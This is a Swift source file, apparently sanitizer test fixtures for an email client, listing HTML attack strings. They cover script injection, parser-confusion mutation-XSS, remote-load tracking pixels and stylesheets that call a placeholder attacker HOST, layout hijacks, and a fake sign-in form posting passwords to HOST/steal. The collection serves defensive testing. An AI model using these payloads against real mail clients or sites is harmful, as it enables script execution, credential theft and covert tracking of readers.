/// Mail that attacks whoever reads it: to run a script, to ask another server, to leave its frame, to hide or to pretend.
///
/// Written for these tests. `HOST` stands for a server of the attacker's that listens; `RUN` for a script that leaves a
/// trace in every window that it reaches.
enum MailAttacks {
    static let all: [String] = scripts + parsing + loading + layout

    /// Scripts in every place where HTML has ever run one.
    static let scripts = [
        "<script>RUN</script>", "<SCRIPT SRC=HOST/x.js></SCRIPT>", "<script\u{0C}type=module>RUN</script>",
        "<img src=x onerror=RUN>", "<img src=x onerror='RUN'//>", "<img/src='x'/onerror=RUN>",
        "<body onload=RUN>", "<body onpageshow='RUN'><p>x", "<svg onload=RUN></svg>", "<svg/onload=RUN>",
        "<svg><script>RUN</script></svg>", "<svg><script href='HOST/x.js'></script></svg>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
        "<svg><a xlink:href='javascript:RUN'><text x=20 y=20>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=RUN></svg>",
        "<math><mtext><script>RUN</script></mtext></math>",
        "<math href='javascript:RUN'>x</math>", "<iframe src='javascript:RUN'></iframe>",
        "<iframe srcdoc='<script>RUN</script>'></iframe>",
        "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
        "<object data='javascript:RUN'></object>", "<object data='data:text/html,<script>RUN</script>'></object>",
        "<embed src='javascript:RUN'>", "<embed src='HOST/x.swf'>", "<applet code=x archive=HOST/x.jar></applet>",
        "<form action='javascript:RUN'><input type=submit autofocus></form>",
        "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN></select>",
        "<textarea autofocus onfocus=RUN></textarea>", "<button autofocus onfocus=RUN>x</button>",
        "<details open ontoggle=RUN>x</details>", "<video><source onerror=RUN></video>",
        "<audio src=x onerror=RUN></audio>",
        "<video poster='javascript:RUN'></video>", "<marquee onstart=RUN>x</marquee>",
        "<a href='javascript:RUN' id=click>x</a>", "<a href='java\u{9}script:RUN'>x</a>",
        "<a href='&#106;avascript&colon;RUN'>x</a>", "<a href=' \u{1}javascript:RUN'>x</a>",
        "<a href='vbscript:RUN'>x</a>", "<a href='data:text/html,<script>RUN</script>'>x</a>",
        "<meta http-equiv=refresh content='0;url=javascript:RUN'>", "<base href='javascript:RUN//'><a href='x'>x</a>",
        "<style>@import 'javascript:RUN';</style>", "<p style='width:expression(RUN)'>x</p>",
        "<p style='-moz-binding:url(HOST/x.xml#x)'>x</p>", "<p style='behavior:url(HOST/x.htc)'>x</p>",
        "<link rel=stylesheet href='javascript:RUN'>", "<isindex action='javascript:RUN' type=image>",
        "<template><script>RUN</script></template>",
        "<div onpointerenter=RUN style='width:2000px;height:2000px'>x</div>",
    ]

    /// Markup that one reader takes for text and another for a script.
    static let parsing = [
        "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
        "<title><p title='</title><script>RUN</script>'>", "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
        "<textarea><p title='</textarea><img src=x onerror=RUN>'></textarea>",
        "<style><p title='</style><img src=x onerror=RUN>'></style>",
        "<!--><img src=x onerror=RUN>-->", "<!--[if gte IE 4]><script>RUN</script><![endif]-->",
        "<![CDATA[<img src=x onerror=RUN>]]>",
        "<svg><style><img title='</style><img src=x onerror=RUN>'></style></svg>",
        "<math><annotation-xml encoding='text/html'><style><img src=x onerror=RUN></style></annotation-xml></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'></style></table></mtext></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN></style></mglyph></form></mtext></math>",
        "<svg></p><style><a id='</style><img src=1 onerror=RUN>'></style></svg>",
        "<p title=\"`><img src=x onerror=RUN>\">x</p>", "<img src=`x` onerror=RUN alt=`x`>",
        "<img src='x\\'onerror=RUN'>", "<a title='a\u{0}b' onclick\u{0}=RUN href=#>x</a>",
        "<scr\u{0}ipt>RUN</scr\u{0}ipt>",
        "<<script>RUN//<</script>", "<img \"\"\"><script>RUN</script>\">", "<plaintext><script>RUN</script>",
        "<select><template><script>RUN</script></template></select>",
        "<table><td><a><table><a href='javascript:RUN'>x</a></table></a></td></table>",
    ]

    /// What would ask another server, and so tell it who reads, and when.
    static let loading = [
        "<img src='HOST/a.png' width=50 height=50>", "<img srcset='HOST/b.png 1x' width=50>",
        "<picture><source srcset='HOST/c.png'><img src='HOST/c2.png'></picture>",
        "<body background='HOST/d.png'><p>x",
        "<table background='HOST/e.png'><tr><td background='HOST/f.png'>x</td></tr></table>",
        "<p style='background:url(HOST/g.png)'>x</p>", "<p style='background-image:\\75rl(HOST/h.png)'>x</p>",
        "<p style=\"background:url('HOST/i.png'),linear-gradient(red,blue)\">x</p>",
        "<style>p{background:url(HOST/j.png)}</style><p>x</p>", "<style>@import url(HOST/k.css);</style>",
        "<style>@font-face{font-family:x;src:url(HOST/l.woff)}p{font-family:x}</style><p>x</p>",
        "<style>p{list-style-image:url(HOST/m.png)}p::before{content:url(HOST/n.png)}</style><p>x</p>",
        "<style>p{cursor:url(HOST/o.cur),auto;filter:url(HOST/p.svg#x);mask:url(HOST/q.png)}</style><p>x</p>",
        "<style>p{background:image-set('HOST/r.png' 1x)}</style><p>x</p>",
        "<style>:root{--x:url(HOST/s.png)}p{background:var(--x)}</style><p>x</p>",
        "<link rel=stylesheet href='HOST/t.css'>", "<link rel=prefetch href='HOST/u'>",
        "<link rel=dns-prefetch href='HOST'>",
        "<link rel=preload as=image href='HOST/v.png'>", "<meta http-equiv=refresh content='0;url=HOST/w'>",
        "<video src='HOST/x.mp4' poster='HOST/y.png' autoplay></video>", "<audio src='HOST/z.mp3' autoplay></audio>",
        "<iframe src='HOST/aa'></iframe>", "<object data='HOST/bb'></object>", "<embed src='HOST/cc'>",
        "<input type=image src='HOST/dd.png'>", "<svg><image href='HOST/ee.png'/><use href='HOST/ff.svg#x'/></svg>",
        "<a href='HOST/gg' ping='HOST/hh' autofocus>x</a>", "<base href='HOST/'><img src='ii.png' width=50>",
        "<blockquote cite='HOST/jj'>x</blockquote><img longdesc='HOST/kk' dynsrc='HOST/ll' lowsrc='HOST/mm'>",
        "<track src='HOST/nn.vtt'><source src='HOST/oo'><bgsound src='HOST/pp'>",
    ]

    /// What would leave the frame, cover the page, or change how it looks.
    static let layout = [
        "<p style='position:fixed;inset:0;background:red;z-index:9999'>x</p>",
        "<style>body,html,.app,.rail{display:none!important}*{color:red!important}</style><p>x</p>",
        "<style>.mail-root{position:fixed;inset:0}</style><p>x</p>", "<div style='margin:-5000px'>x</div>",
        "<div style='height:100vh'>x</div><div style='height:100dvh'>x</div>", "<div style='height:99999999px'>x</div>",
        "<div style='width:99999px'>x</div>", "<style>} body{background:red} .x{</style><p>x</p>",
        "<form action='HOST/steal'><input name=password type=password><button>Sign in</button></form>",
        "<a href='HOST/x' target=_top>x</a><base target=_top>",
        "<div id=main class=app><p class=rail data-part=list>x</p></div>",
        "<form id=list><input name=form-token></form><a name=location>x</a><img name=cookie>",
        "<p style='color:white;background:white'>PADDING</p>", "<div style='transform:scale(99)'>x</div>",
        "<p style='font-size:9999px;line-height:9999'>x</p>",
        "<div style='animation:x 1s infinite;transition:all 1s'>x</div>",
    ]
}
